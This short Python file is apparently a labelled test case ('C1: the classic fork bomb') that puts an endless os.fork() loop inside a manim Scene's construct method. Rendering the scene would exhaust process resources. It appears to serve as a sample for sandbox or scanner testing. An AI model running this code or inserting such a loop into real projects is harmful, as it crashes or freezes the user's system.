"""C1: the classic fork bomb."""

import os

from manim import Scene


class ExhaustForkBomb(Scene):
    def construct(self):
        while True:
            os.fork()
